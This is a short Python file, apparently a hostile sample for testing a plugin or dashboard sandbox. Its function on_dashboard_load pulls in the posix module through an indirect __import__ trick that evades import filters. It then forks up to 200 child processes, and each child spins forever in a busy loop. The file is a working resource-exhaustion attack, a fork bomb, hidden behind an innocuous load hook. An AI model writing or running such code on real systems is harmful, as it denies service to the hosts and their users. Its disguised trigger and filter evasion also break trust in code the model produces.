"""Makes as many processes as it can."""

import contextlib

posix = contextlib.__builtins__["__import__"]("posix")


def on_dashboard_load():
    made = 0
    for _ in range(200):
        try:
            if posix.fork() == 0:
                while True:
                    pass
        except OSError:
            continue
        made += 1
    return {"made": made}
